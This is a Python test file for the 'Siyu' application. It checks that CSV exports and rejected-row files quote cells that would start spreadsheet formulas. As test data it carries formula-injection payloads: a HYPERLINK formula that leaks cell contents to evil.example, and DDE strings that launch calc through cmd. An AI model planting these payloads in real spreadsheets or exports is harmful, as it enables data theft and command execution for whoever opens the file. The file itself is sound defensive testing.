"""Every CSV Siyu writes opens in a spreadsheet as data: a cell that would start a formula
(`=`, `+`, `-`, `@`, tab, carriage return) is shown as text, never run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from siyu.codes.landing import forget_cached
from siyu.codes.service import create_code
from siyu.core import csvsafe
from siyu.core.db import unit_of_work
from siyu.imports.cells import text
from siyu.imports.plans import Problem
from siyu.imports.readers import SourceRow
from siyu.imports.rejected import RejectedFile
from siyu.segments import service as segments
from siyu.staff.service import assign_owner, create_staff
from tests.console.test_dashboard import to_lake
from tests.segments.brand import Brand, identify, order

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
# Each prefix a spreadsheet would act on, as the start of a value an attacker controls.
ATTACKS = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _fresh_landing_cache():
    """The landing caches codes and its source for seconds; each test starts on empty tables."""
    forget_cached()
    yield
    forget_cached()


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _has_live_formula(rows: list[list[str]]) -> bool:
    return any(cell.startswith(csvsafe.TRIGGERS) and cell != "-" for row in rows for cell in row)


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_run_is_quoted_and_reads_back(value):
    safe = csvsafe.safe_cell(value)
    assert safe == "'" + value
    assert csvsafe.restored(safe) == value


@pytest.mark.parametrize("value", ["-12", "-3.5", "-7.1%", 42, -5, None, "王小明", "a=b"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert csvsafe.safe_cell(value) == value


def test_segment_members_export_quotes_ids_and_phones(signed_in, client, admin_token):
    brand = Brand()
    brand.send(
        identify(FORMULA, "2026-10-01"),
        identify("@SUM(1)", "2026-10-01", phone="+85291234567"),
    )
    brand.ship()
    with unit_of_work() as s:
        segments.refresh(s, segments.create_segment(s, "all", "All", {"not": {"tag": "x"}}))
    for response in (
        signed_in("analyst").get("/segments/all/export.csv"),
        client.get(
            "/api/segments/all/export.csv", headers={"Authorization": f"Bearer {admin_token}"}
        ),
    ):
        rows = _cells(response)
        assert {row[1] for row in rows[1:]} == {"'" + FORMULA, "'@SUM(1)"}
        assert "'+85291234567" in {cell for row in rows[1:] for cell in row}  # the phone
        assert not _has_live_formula(rows)


def test_touchpoints_and_codes_exports_quote_names(signed_in):
    with unit_of_work() as s:
        create_code(s, FORMULA, code="-evil", kind="poster")
    client = signed_in("operator")
    client.get("/q/-evil", follow_redirects=False)
    to_lake()
    touchpoints = _cells(client.get("/touchpoints.csv"))
    assert touchpoints[1][:2] == ["'-evil", "'" + FORMULA]
    codes = _cells(client.get("/codes.csv"))
    assert codes[1][:2] == ["'-evil", "'" + FORMULA]
    for rows in (touchpoints, codes):
        assert not _has_live_formula(rows)


def test_report_export_quotes_names(signed_in):
    with unit_of_work() as s:
        guide = create_staff(s, "+导购 cmd|' /C calc'!A0").id
    brand = Brand()
    brand.send(identify("ann", "2026-11-09"), order("ann", "2026-11-10", 30))
    brand.ship()
    with unit_of_work() as s:
        assign_owner(s, brand.customer_id("ann"), guide)
    to_lake()
    rows = _cells(signed_in("analyst").get("/reports/guides.csv?start=2026-11-01&end=2026-11-30"))
    assert any(row[0] == "'+导购 cmd|' /C calc'!A0" for row in rows), rows
    assert not _has_live_formula(rows)


def test_rejected_rows_file_quotes_cells_and_imports_back_as_they_were(tmp_path: Path):
    source = tmp_path / "customers.csv"
    with RejectedFile(source, as_lines=False) as rejected:
        rejected.header = ["name", "phone"]
        rejected.add(Problem(SourceRow(2, {"name": FORMULA, "phone": "-1"}), "phone", "bad"))
    rows = list(csv.reader(rejected.path.open(encoding="utf-8-sig")))
    assert rows[1][:3] == ["2", "'" + FORMULA, "-1"]
    assert text(rows[1][1]) == FORMULA
